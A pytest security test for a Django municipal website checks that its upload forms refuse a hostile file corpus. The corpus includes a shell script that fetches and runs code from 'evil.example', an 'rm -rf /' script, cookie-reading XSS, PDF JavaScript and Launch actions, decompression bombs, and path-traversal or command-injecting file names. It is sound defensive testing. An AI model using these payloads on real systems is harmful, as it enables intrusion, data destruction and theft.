"""A hostile upload corpus, generated here, sent to every upload form of the site.

Each file must be refused and nothing stored: no new row of any model that keeps an upload
and no new file under MEDIA_ROOT. For each endpoint a good file sent last with the same
payload must be stored (the control: the payload is right, so the file alone was refused).

Decisions: a PDF with JavaScript, a launch action or an embedded file is refused (see
municipality/uploads.py); a real JPEG or PNG with web page code appended after its end
(a polyglot) is refused too.
"""

import datetime
import io
import struct
import zlib
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from PIL import Image

from budget.models import BudgetLine, HearingMaterial
from engagement_plan.models import ActivityPhoto, Plan
from initiatives.models import (
    Application,
    ApplicationAttachment,
    Contest,
    ContestFile,
    EstimateLine,
    ImplementationReport,
    ReportPhoto,
)
from monitoring.models import MonitoringGroup, Photo, Protocol
from municipality.models import LegalListVersion, NoticeAttachment
from tests.budget.factories import HearingFactory
from tests.engagement_plan.factories import ActivityFactory, PlanFactory
from tests.initiatives.factories import ApplicationFactory, ContestFactory
from tests.monitoring.factories import ProtocolFactory, SubjectFactory, group_with_chair
from tests.municipality.factories import LocalIssueFactory, MunicipalityFactory, UserFactory
from tests.security.conftest import record_figure

LIMIT = 10 * 1024 * 1024


def _jpeg(size=(64, 48)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (40, 120, 200)).save(out, "JPEG", quality=80)
    return out.getvalue()


def _png(size=(64, 48)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, "PNG")
    return out.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png_bomb(width=50_000, height=50_000) -> bytes:
    """A well-formed PNG declaring 50 000 × 50 000 pixels (2.5 gigapixels) of 1-bit grey."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress((b"\x00" + b"\x00" * (width // 8)) * 64, 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", rows)
        + _png_chunk(b"IEND", b"")
    )


def _jpeg_bomb() -> bytes:
    """A JPEG whose frame header declares 60 000 × 60 000 pixels."""
    data = bytearray(_jpeg((8, 8)))
    sof = data.find(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", 60_000, 60_000)
    return bytes(data)


HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(1)</script></svg>"
)
PDF_JS = (
    b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>\nendobj\n"
    b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    b"3 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n"
    b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
)
PDF_JS_ESCAPED = PDF_JS.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")
PDF_LAUNCH = PDF_JS.replace(b"/S /JavaScript /JS (app.alert\\(1\\))", b"/S /Launch /F (cmd.exe)")
GOOD_PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def corpus() -> list[tuple[str, bytes]]:
    jpeg, png = _jpeg(), _png()
    return [
        ("elf-renamed.pdf", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 2000),
        ("elf-renamed.jpg", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 2000),
        ("windows-exe.jpg", b"MZ\x90\x00\x03" + b"\x00" * 58 + b"PE\x00\x00" + b"\x00" * 2000),
        ("windows-exe.pdf", b"MZ\x90\x00\x03" + b"\x00" * 58 + b"PE\x00\x00" + b"\x00" * 2000),
        ("shell-script.pdf", b"#!/bin/sh\ncurl http://evil.example/x | sh\n"),
        ("shell-script.jpg", b"#!/bin/sh\nrm -rf /\n"),
        ("page.html", HTML),
        ("page.pdf", HTML),
        ("image.svg", SVG),
        ("svg-renamed.png", SVG),
        ("gif-polyglot.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + HTML),
        ("gif-polyglot.jpg", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + HTML),
        ("jpeg-header-then-html.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00" + HTML),
        ("jpeg-then-script.jpg", jpeg + HTML),
        ("png-then-script.png", png + HTML),
        ("pdf-javascript.pdf", PDF_JS),
        ("pdf-javascript-escaped.pdf", PDF_JS_ESCAPED),
        ("pdf-launch.pdf", PDF_LAUNCH),
        ("png-bomb-50000x50000.png", _png_bomb()),
        ("jpeg-bomb-60000x60000.jpg", _jpeg_bomb()),
        ("truncated.jpg", jpeg[: len(jpeg) // 2]),
        ("truncated.png", png[: len(png) // 2]),
        ("empty.pdf", b""),
        ("empty.jpg", b""),
        ("over-limit.pdf", GOOD_PDF[:9] + b"0" * (LIMIT + 1 - 9)),
        ("over-limit.jpg", jpeg[:-2] + b"\x00" * (LIMIT + 1 - len(jpeg)) + b"\xff\xd9"),
    ]


def _file(name, data):
    return SimpleUploadedFile(name, data, content_type="application/octet-stream")


STORED = [
    NoticeAttachment,
    ContestFile,
    ApplicationAttachment,
    ReportPhoto,
    ActivityPhoto,
    Photo,
    HearingMaterial,
    BudgetLine,
    LegalListVersion,
]


def _state():
    rows = {model.__name__: model.objects.count() for model in STORED}
    rows["Protocol.scan"] = Protocol.objects.exclude(scan="").count()
    rows["MonitoringGroup.resolution_file"] = MonitoringGroup.objects.exclude(
        resolution_file=""
    ).count()
    root = Path(settings.MEDIA_ROOT)
    files = sorted(str(p) for p in root.rglob("*") if p.is_file()) if root.exists() else []
    return rows, files


# Endpoints: (name, set-up returning (user, url, payload(file) -> dict, good file)).


def _notice(world):
    def data(f):
        return {
            "title_ky": "Жыйын",
            "title_ru": "Сход",
            "body_ky": "Жыйын өтөт.",
            "body_ru": "Сход.",
            "category": "general",
            "attachments": [f],
        }

    return world["staff"], reverse("municipality:office-notice-create"), data, GOOD_PDF


def _contest_files(world):
    issue = LocalIssueFactory()
    data = lambda f: {  # noqa: E731
        "title_ky": "Сынак",
        "title_ru": "Конкурс",
        "budget": "78000",
        "max_per_project": "39000",
        "own_contribution_percent": "0",
        "window_opens": "2026-12-03",
        "window_closes": "2026-12-16",
        "directions": [issue.pk],
        "required_attachments": "0",
        "quorum_numerator": "2",
        "quorum_denominator": "3",
        "description_ky": "Сүрөттөмө",
        "terms_of_reference_ky": "Тапшырма",
        "files": [f],
    }
    return world["staff"], reverse("initiatives:office-contest-new"), data, GOOD_PDF


def _application_attachments(world):
    contest = ContestFactory(status=Contest.Status.ACCEPTING)
    issue = contest.directions.first()
    counter = iter(range(1000))

    def data(f):
        return {
            "client_token": f"hostile-{next(counter)}",
            "kind": "individual",
            "title": "Спорт аянтчасы",
            "local_issues": [issue.pk],
            "problem": "Аянтча жок",
            "beneficiaries_count": "100",
            "beneficiaries_who": "жаштар",
            "requested_sum": "30000",
            "contribution_cash": "2000",
            "contribution_goods": "0",
            "contribution_ashar": "1000",
            "contribution_sponsors": "0",
            "contact_phone": "+996 700 123 456",
            "contact_email": "",
            "act-TOTAL_FORMS": "1",
            "act-INITIAL_FORMS": "0",
            "act-0-description": "Курулуш",
            "act-0-starts_on": "2026-12-26",
            "act-0-ends_on": "2026-12-30",
            "est-TOTAL_FORMS": "1",
            "est-INITIAL_FORMS": "0",
            "est-0-item": "Цемент",
            "est-0-unit": "кап",
            "est-0-quantity": "66",
            "est-0-unit_price": "500",
            "est-0-total": "33000",
            "attachments": [f],
            "action": "save",
        }

    return world["resident"], reverse("initiatives:apply", args=[contest.pk]), data, GOOD_PDF


def _report_photos(world):
    contest = ContestFactory(status=Contest.Status.IMPLEMENTATION)
    application = ApplicationFactory(
        contest=contest, applicant=world["resident"], status=Application.Status.SELECTED
    )
    report = ImplementationReport.objects.create(
        application=application, due_date=timezone.localdate() + datetime.timedelta(days=9)
    )
    lines = list(EstimateLine.objects.filter(application=application))

    def data(f):
        payload = {
            "text": "Иштер башталды",
            "sp-TOTAL_FORMS": str(len(lines)),
            "sp-INITIAL_FORMS": str(len(lines)),
            "photos": [f],
        }
        for i, line in enumerate(lines):
            payload.update(
                {
                    f"sp-{i}-item": line.item,
                    f"sp-{i}-planned": str(line.total),
                    f"sp-{i}-spent": "100",
                }
            )
        return payload

    url = reverse("initiatives:report", args=[application.pk, report.pk])
    return world["resident"], url, data, _jpeg()


def _activity_photos(world):
    activity = ActivityFactory(plan=PlanFactory(status=Plan.Status.IN_FORCE))

    def data(f):
        return {
            "held_on": "2025-03-01",
            "place": "Клуб",
            "result": "Өттү",
            "attendance_total": "12",
            "attendance_women": "7",
            "attendance_men": "5",
            "photos": [f],
        }

    url = reverse("engagement_plan:activity-evidence", args=[activity.pk])
    return world["staff"], url, data, _png()


def _protocol(field):
    def setup(world):
        group, _chair, member = group_with_chair()
        protocol = ProtocolFactory(subject=SubjectFactory(group=group), findings="")
        data = lambda f: {  # noqa: E731
            "visit_date": timezone.localdate().isoformat(),
            "address": "Мектеп",
            "findings": "Баары жакшы",
            field: [f] if field == "photos" else f,
            "rec-TOTAL_FORMS": "0",
            "rec-INITIAL_FORMS": "0",
            "rec-MIN_NUM_FORMS": "0",
            "rec-MAX_NUM_FORMS": "30",
            "save": "1",
        }
        url = reverse("monitoring:protocol-edit", args=[protocol.pk])
        return member.user, url, data, (_jpeg() if field == "photos" else GOOD_PDF)

    return setup


def _group_resolution(world):
    today = timezone.localdate()
    counter = iter(range(1000))
    data = lambda f: {  # noqa: E731
        "name": f"Топ {next(counter)}",
        "name_ru": "",
        "resolution_number": "12/4",
        "resolution_date": today.isoformat(),
        "period_start": today.isoformat(),
        "period_end": (today + datetime.timedelta(days=100)).isoformat(),
        "mandate": "",
        "mandate_ru": "",
        "resolution_file": f,
    }
    return world["kenesh"], reverse("monitoring:group-create"), data, GOOD_PDF


def _hearing_material(world):
    hearing = HearingFactory()
    url = reverse("budget:office-hearing-material", args=[hearing.pk])
    return world["staff"], url, lambda f: {"title": "Долбоор", "file": f}, GOOD_PDF


def _budget_import(world):
    good = "year,kind,code,category,planned,actual\n2026,expenditure,7701,Жолдор,1000,\n"
    data = lambda f: {"file": f, "encoding": "auto"}  # noqa: E731
    return world["staff"], reverse("budget:office-import"), data, good.encode()


def _legal_list(world):
    good = "1;Ичүүчү суу;Питьевая вода\n2;Жолдор;Дороги\n".encode()
    data = lambda f: {"file": f, "source": "Мыйзам, 27-берене", "source_ru": ""}  # noqa: E731
    return world["administrator"], reverse("municipality:office-legal-list"), data, good


ENDPOINTS = {
    "notice attachments": _notice,
    "contest terms files": _contest_files,
    "application attachments": _application_attachments,
    "report photos": _report_photos,
    "plan activity evidence photos": _activity_photos,
    "monitoring protocol photos": _protocol("photos"),
    "monitoring protocol scan": _protocol("scan"),
    "monitoring group resolution": _group_resolution,
    "budget hearing materials": _hearing_material,
    "budget lines import (CSV)": _budget_import,
    "legal list of local issues (text/CSV)": _legal_list,
}


@pytest.mark.slow
@pytest.mark.django_db
def test_hostile_uploads_are_refused_everywhere(client):
    MunicipalityFactory()
    world = {
        "staff": UserFactory(roles=["staff"]),
        "kenesh": UserFactory(roles=["kenesh_secretary"]),
        "administrator": UserFactory(roles=["administrator"]),
        "resident": UserFactory(),
    }
    files = corpus()
    tried = refused = 0
    stored, server_errors = [], []
    for endpoint, setup in ENDPOINTS.items():
        user, url, payload, good = setup(world)
        client.force_login(user)
        for name, data in files:
            before = _state()
            response = client.post(url, payload(_file(name, data)))
            tried += 1
            if response.status_code >= 500:
                server_errors.append(f"{endpoint}: {name} → {response.status_code}")
            if _state() != before:
                stored.append(f"{endpoint}: {name} (HTTP {response.status_code})")
            else:
                refused += 1
        before = _state()
        response = client.post(
            url, payload(_file("good." + ("pdf" if good.startswith(b"%PDF") else "img"), good))
        )
        assert _state() != before, (
            f"control for {endpoint}: a good file was not stored (HTTP {response.status_code})"
            f"\n{response.content.decode()[:2000]}"
        )
    record_figure(
        "hostile uploads",
        f"{tried} tried, {refused} refused, {len(stored)} stored "
        f"({len(files)} files × {len(ENDPOINTS)} upload forms)",
    )
    assert not server_errors, server_errors
    assert not stored, "\n".join(stored)


def test_corpus_sizes_are_what_they_claim():
    sizes = dict(corpus())
    assert len(sizes["over-limit.pdf"]) == LIMIT + 1 == len(sizes["over-limit.jpg"])
    assert sizes["empty.pdf"] == b""
    bomb = sizes["png-bomb-50000x50000.png"]
    assert struct.unpack(">II", bomb[16:24]) == (50_000, 50_000) and len(bomb) < 100_000


HOSTILE_NAMES = [
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\evil",
    "a" * 300,
    "\u202egpj.exe",
    "<script>alert(1)</script>",
    "имя файла; rm -rf",
    ".htaccess",
]


# A good file sent under a dangerous extension is stored under the extension of its type.
WRONG_EXTENSIONS = ["evil.html", "evil.svg", "evil.exe", "evil"]


@pytest.mark.slow
@pytest.mark.django_db
def test_good_files_with_hostile_names_stay_inside_media_root(client):
    MunicipalityFactory()
    world = {
        "staff": UserFactory(roles=["staff"]),
        "kenesh": UserFactory(roles=["kenesh_secretary"]),
        "resident": UserFactory(),
    }
    root = Path(settings.MEDIA_ROOT).resolve()
    tried, stored, errors, outside = 0, 0, [], []
    for endpoint, setup in ENDPOINTS.items():
        if (
            endpoint.startswith("budget lines import")
            or endpoint == "legal list of local issues (text/CSV)"
        ):
            continue  # the CSV (and the legal list) is read, never stored
        extension = ".pdf" if setup(world)[3].startswith(b"%PDF") else ".jpg"
        names = [base + extension for base in HOSTILE_NAMES] + WRONG_EXTENSIONS
        for base in names:
            user, url, payload, good = setup(world)  # a fresh object: one upload each
            client.force_login(user)
            _rows, before = _state()
            response = client.post(url, payload(_file(base, good)))
            tried += 1
            if response.status_code >= 500:
                errors.append(f"{endpoint}: {base!r} → {response.status_code}")
            new_files = set(_state()[1]) - set(before)
            stored += bool(new_files)
            for path in new_files:
                resolved = Path(path).resolve()
                if (
                    root not in resolved.parents
                    or "<" in path
                    or "\u202e" in path
                    or resolved.suffix not in (".pdf", ".jpg", ".png")
                ):
                    outside.append(f"{endpoint}: {base!r} stored as {path}")
    record_figure(
        "hostile file names",
        f"{tried} uploads of good files with hostile names, "
        f"{stored} stored, {len(errors)} server errors, "
        f"{len(outside)} stored outside MEDIA_ROOT, unsanitised or under a wrong "
        f"extension",
    )
    assert not errors, errors
    assert stored == tried, "a good file with an odd name should still be accepted"
    assert not outside, outside
